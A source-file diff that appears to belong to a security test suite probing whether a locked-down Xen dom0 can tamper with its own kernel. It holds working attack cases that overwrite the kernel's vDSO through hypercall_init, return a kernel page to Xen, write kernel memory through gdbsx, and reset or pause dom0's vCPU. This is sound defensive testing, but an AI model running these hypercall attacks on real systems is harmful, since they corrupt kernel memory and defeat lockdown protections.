@@ -1,0 +1,168 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Domain control aimed at dom0 itself. The operations are made for a toolstack
+ * that looks after other domains; some of them do not mind that the domain is
+ * the caller's own.
+ */
+#include "../rogue.h"
+
+#include <xen/grant_table.h>
+
+const uint8_t *vdso_page(void)
+{
+    char line[256];
+    unsigned long end = 0;
+    FILE *maps = fopen("/proc/self/maps", "re");
+
+    while ( maps && !end && fgets(line, sizeof(line), maps) )
+        if ( strstr(line, "[vdso]") && sscanf(line, "%*x-%lx", &end) != 1 )
+            break;
+    if ( maps )
+        fclose(maps);
+
+    if ( !end )
+        return NULL;
+
+    touch((void *)(end - PAGE_SIZE)); /* so that it is mapped */
+    return (const uint8_t *)(end - PAGE_SIZE);
+}
+
+void copy_frame(uint64_t to, uint64_t from)
+{
+    gnttab_copy_t copy = { .source = { .u.gmfn = from, .domid = DOMID_SELF },
+                           .dest = { .u.gmfn = to, .domid = DOMID_SELF },
+                           .len = PAGE_SIZE };
+
+    hypercall3(__HYPERVISOR_grant_table_op, GNTTABOP_copy, &copy, 1);
+}
+
+/*
+ * U-HCALLPAGE: have Xen write a hypercall page over a page of the kernel's.
+ *
+ * hypercall_init fills whichever frame it is given, in whichever domain. The
+ * victim is code that the kernel shares with all programs, where the damage can
+ * be seen and is undone.
+ */
+ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
+{
+    struct xen_domctl init = { .cmd = XEN_DOMCTL_hypercall_init, .domain = 0 };
+    const uint8_t *page = vdso_page();
+    uint8_t *before = buffer(PAGE_SIZE);
+    uint64_t frame = 0;
+    bool changed;
+
+    if ( page )
+    {
+        memcpy(before, page, PAGE_SIZE);
+        frame = own_frame(page);
+    }
+    if ( !frame )
+        return cannot_try("no frame for the kernel's page");
+
+    init.u.hypercall_init.gmfn = frame;
+    domctl(&init);
+    changed = memcmp(before, page, PAGE_SIZE);
+    if ( changed )
+        copy_frame(frame, own_frame(before));
+
+    return effect(changed, "the kernel's vDSO %s",
+                  changed ? "overwritten with hypercalls" : "unchanged");
+}
+
+/*
+ * U-MEMSTEAL: take a page away from the kernel.
+ *
+ * decrease_reservation gives memory back to Xen, and does not ask whether the
+ * kernel still uses it. Where the page was, nothing answers any more.
+ */
+ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
+{
+    const uint8_t *page = vdso_page();
+    uint8_t *before = buffer(PAGE_SIZE);
+    xen_pfn_t *frames = buffer(PAGE_SIZE);
+    struct xen_memory_reservation *reservation = buffer(PAGE_SIZE);
+    bool gone;
+
+    if ( dom0_is_pv() )
+        return not_applicable(
+            "PVH only: of a PV domain Xen frees no frame that is still mapped");
+    if ( !page )
+        return cannot_try("no page of the kernel's in sight");
+
+    memcpy(before, page, PAGE_SIZE);
+    *frames = own_frame(page);
+    if ( !*frames )
+        return cannot_try("no frame for the kernel's page");
+
+    set_xen_guest_handle(reservation->extent_start, frames);
+    reservation->nr_extents = 1;
+    reservation->domid = DOMID_SELF;
+    hypercall2(__HYPERVISOR_memory_op, XENMEM_decrease_reservation,
+               reservation);
+
+    gone = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
+    if ( gone )
+    {
+        hypercall2(__HYPERVISOR_memory_op, XENMEM_populate_physmap,
+                   reservation);
+        copy_frame(*frames, own_frame(before));
+    }
+
+    return effect(gone, "the kernel's vDSO %s",
+                  gone ? "lost its memory" : "unchanged");
+}
+
+/*
+ * U-GDBSX: write to the kernel as a debugger of guests would.
+ *
+ * gdbsx's memory access walks the page tables of whichever domain it is given,
+ * with no regard to what they make read-only.
+ */
+ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
+{
+    struct xen_domctl op = { .cmd = XEN_DOMCTL_gdbsx_guestmemio, .domain = 0 };
+    char *bytes = buffer(PAGE_SIZE);
+    long result;
+    bool written;
+
+    memcpy(bytes, new_mark(), MARK_SIZE);
+    op.u.gdbsx_guest_memio.gva = victim();
+    op.u.gdbsx_guest_memio.uva = (uintptr_t)bytes;
+    op.u.gdbsx_guest_memio.len = MARK_SIZE;
+    op.u.gdbsx_guest_memio.gwr = 1;
+    result = domctl(&op);
+    written = victim_has_mark();
+
+    if ( !written && (result == -ENOSYS || result == -EOPNOTSUPP) )
+        return not_applicable("this Xen is built without gdbsx");
+    return effect(written, "the kernel's version %s",
+                  written ? "rewritten" : "unchanged");
+}
+
+/*
+ * U-SETCTX: replace the state of dom0's own vCPU, or of dom0.
+ *
+ * Each of these would end this program at once: a vCPU that is reset, or run as
+ * if it were a 32-bit one, or paused. Xen refuses all of them to a domain that
+ * acts on itself, lockdown or not; this shows that it stays so.
+ */
+ATTACK("U-SETCTX", "reset, narrow or pause dom0's own vCPU")
+{
+    struct xen_domctl *op = buffer(PAGE_SIZE);
+
+    announce("about to reset dom0");
+
+    op->cmd = XEN_DOMCTL_setvcpucontext;
+    domctl(op);
+
+    memset(op, 0, sizeof(*op));
+    op->cmd = XEN_DOMCTL_set_address_size;
+    op->u.address_size.size = 32;
+    domctl(op);
+
+    memset(op, 0, sizeof(*op));
+    op->cmd = XEN_DOMCTL_pausedomain;
+    domctl(op);
+
+    return effect(false, "dom0 runs on as before");
+}
